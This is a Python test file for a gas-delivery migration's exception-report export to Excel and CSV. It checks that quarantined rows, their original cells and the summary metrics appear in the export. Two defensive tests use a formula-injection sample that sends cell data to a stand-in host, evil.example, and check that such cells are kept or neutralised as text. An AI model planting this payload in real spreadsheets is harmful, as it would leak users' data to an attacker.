"""`luckygas report`: Mary's exception workbook, read back with openpyxl (and the CSV variant).

Uses the loaded and built small sample of test_dbt_deliveries (its `built` fixture): every
quarantined row and every failing rule row must be in the workbook, on its reason's or rule's
sheet, with its source file, sheet, row number and the source row's original cells.
"""

from __future__ import annotations

import csv
import uuid

import openpyxl
import psycopg
import pytest

from loaders import connection
from loaders.cli import main
from loaders.tests.dbt_runner import environ
from loaders.tests.test_dbt_deliveries import built, rows  # noqa: F401  (fixture)


def pg_env(built_env: dict[str, str]) -> dict[str, str]:
    return {
        k: v
        for k, v in built_env.items()
        if k in {"PGHOST", "PGPORT", "PGUSER", "PGDATABASE", "PGPASSFILE", "PGPASSWORD"}
    }


@pytest.fixture(scope="module")
def workbook(built, tmp_path_factory):  # noqa: F811
    path = tmp_path_factory.mktemp("report") / "exceptions.xlsx"
    with environ(pg_env(built[3])):
        assert main(["report", "--out", str(path)]) == 0
    return openpyxl.load_workbook(path)


def sheet_rows(ws) -> list[dict]:
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def code_sheets(workbook, code: str) -> list:
    """The sheets of one rule or reason: `code`, or `code <layout>` when it spans layouts."""
    return [ws for ws in workbook.worksheets if ws.title.split(" ")[0] == code]


def code_rows(workbook, code: str) -> list[dict]:
    return [r for ws in code_sheets(workbook, code) for r in sheet_rows(ws)]


def test_every_quarantined_row_is_on_its_reason_sheet(built, workbook):  # noqa: F811
    conninfo = built[0]
    quarantined = rows(
        conninfo,
        "select reason, source_file, source_sheet, source_row from marts.delivery_quarantine"
        " union all select reason, source_file, source_sheet, source_row"
        " from marts.customer_quarantine",
    )
    assert quarantined
    for reason, file, sheet, row in quarantined:
        listed = {(r["來源檔案"], r["工作表"], r["列號"]) for r in code_rows(workbook, reason)}
        assert (file, sheet, row) in listed, (reason, file, sheet, row)
    total = sum(len(code_rows(workbook, r)) for r in {q[0] for q in quarantined})
    assert total == len(quarantined)


def test_each_sheet_holds_one_layout_under_its_own_headers(built, workbook):  # noqa: F811
    """A rule or reason spanning several layouts has a sheet per layout, and a sheet's
    原始: columns are the headers (as written) of that layout's raw tables only."""
    conninfo = built[0]
    headers_of = {}
    for file, sheet, headers in rows(
        conninfo,
        "select s.source_file, s.sheet, array_agg(coalesce(nullif(c.original_header, ''),"
        " c.column_name) order by c.position) from raw._sources s"
        " join raw._columns c using (table_name) where s.outcome = 'loaded'"
        " group by s.source_file, s.sheet",
    ):
        headers_of[(file, sheet)] = headers
    spanning = 0
    for ws in workbook.worksheets[1:]:
        listed = sheet_rows(ws)
        extra = [h.removeprefix("原始:") for h in listed[0] if h.startswith("原始:")]
        allowed = set()
        for r in listed:
            allowed |= set(headers_of.get((r["來源檔案"], r["工作表"]), []))
        assert set(extra) <= allowed, ws.title
        spanning += " " in ws.title
    assert spanning, "the sample has a reason in several layouts (unknown_client, test_client)"
    # a rule's source header and the cell as written, beside the model's column
    d06 = code_rows(workbook, "D06")
    assert d06 and all(r["來源欄位"] == "地址 / 客戶簡稱" for r in d06)


def test_failing_rule_rows_carry_their_original_cells(built, workbook):  # noqa: F811
    conninfo = built[0]
    d06 = code_rows(workbook, "D06")
    assert d06 and all(r["規則/原因"] == "D06" for r in d06)
    for r in d06:
        table = rows(
            conninfo,
            "select table_name from raw._sources where source_file = %s and sheet = %s"
            " order by load_id desc limit 1",
            (r["來源檔案"], r["工作表"]),
        )[0][0]
        (name, address) = rows(
            conninfo,
            f'select "客戶簡稱", "地址" from raw."{table}" where _source_row = %s',
            (r["列號"],),
        )[0]
        assert (r["原始:客戶簡稱"], r["原始:地址"]) == (name, address)
    # sorted so the file can be fixed top to bottom
    keys = [(r["來源檔案"], r["工作表"], r["列號"]) for r in d06]
    assert keys == sorted(keys)


def test_summary_lists_every_rule_and_the_reconciliation(built, workbook):  # noqa: F811
    conninfo = built[0]
    summary = list(workbook["摘要"].iter_rows(values_only=True))
    listed = {row[0] for row in summary[1:] if row and row[0]}
    rules = {r[0] for r in rows(conninfo, "select rule_id from reference.business_rules")}
    assert rules <= listed
    reasons = {
        r[0] for r in rows(conninfo, "select distinct reason from marts.delivery_quarantine")
    }
    assert reasons <= listed
    assert any(row[0] == "來源檔案" for row in summary)  # the reconciliation block
    # the migration's success against the plan, per entity as validation.migration_metrics has it
    metrics = {
        r[0]: r[8]
        for r in rows(
            conninfo,
            "select entity, null, null, null, null, null, null, null, success_rate"
            " from validation.migration_metrics where level = 'entity'",
        )
    }
    listed_metrics = {
        row[0]: row[8] for row in summary if row and row[0] in metrics and row[1] is None
    }
    assert metrics and {k: float(v) for k, v in listed_metrics.items()} == {
        k: float(v) for k, v in metrics.items()
    }
    # which dbt run each part comes from: the reconciliation's run is named
    (run_id,) = rows(
        conninfo, "select run_id from validation.reconciliation order by recorded_at desc limit 1"
    )[0]
    provenance = [row for row in summary if row and row[0] == "對帳"]
    assert provenance and run_id[:8] in provenance[0][1]
    for ws in workbook.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref, ws.title


def test_csv_format_writes_the_same_tables(built, tmp_path):  # noqa: F811
    with environ(pg_env(built[3])):
        assert main(["report", "--out", str(tmp_path), "--format", "csv"]) == 0
    files = {p.stem for p in tmp_path.glob("*.csv")}
    assert "摘要" in files and any(f.split(" ")[0] == "unknown_client" for f in files)
    got = []
    for path in tmp_path.glob("unknown_client*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as f:
            got += list(csv.DictReader(f))
    want = rows(
        built[0],
        "select count(*) from validation.latest_exceptions where code = 'unknown_client'",
    )[0][0]
    assert len(got) == want and all(r["列號"] for r in got)


def test_report_on_an_unbuilt_database_is_one_clear_error(pg, tmp_path, capsys):
    name = f"r_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(pg.conninfo, autocommit=True) as admin:
        admin.execute(f'create database "{name}"')
    try:
        with environ({**pg.env, "PGDATABASE": name}):
            assert main(["report", "--out", str(tmp_path / "x.xlsx")]) == 2
        err = capsys.readouterr().err
        assert "dbt build" in err and len(err.strip().splitlines()) == 1
    finally:
        with psycopg.connect(pg.conninfo, autocommit=True) as admin:
            connection.drop_database(admin, name)


def test_a_cell_that_looks_like_a_formula_stays_text(tmp_path):
    """Source text never becomes a formula, a link or a number in Mary's workbook."""
    from loaders.report import Table, write_xlsx

    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"請點此更正")'
    table = Table("C17", ["欄位", "值"], rows=[["區域", hostile], ["電話", "0912345678"]])
    path = tmp_path / "x.xlsx"
    write_xlsx([table], path)
    ws = openpyxl.load_workbook(path)["C17"]
    assert (ws["B2"].value, ws["B2"].data_type) == (hostile, "s")
    assert (ws["B3"].value, ws["B3"].data_type) == ("0912345678", "s")


def test_a_csv_cell_that_looks_like_a_formula_is_neutralised(tmp_path):
    """In the CSV export a text cell that a spreadsheet would run gets a leading apostrophe;
    numbers, ordinary text and text with `=` inside are written as they are."""
    from loaders.report import Table, write_csv

    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"請點此更正")'
    starts = [hostile, "+886 89 123", "-1", "@SUM(A1)", "\tcmd", "\r=1"]
    plain = ["台東市", "a=b", "0912345678", "'quoted"]
    table = Table("C17", ["原始值"], rows=[[v] for v in starts + plain] + [[-5], [3.5]])
    write_csv([table], tmp_path)
    with (tmp_path / "C17.csv").open(encoding="utf-8-sig", newline="") as f:
        got = [row[0] for row in csv.reader(f)][1:]
    assert got == ["'" + v for v in starts] + plain + ["-5", "3.5"]
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in got)
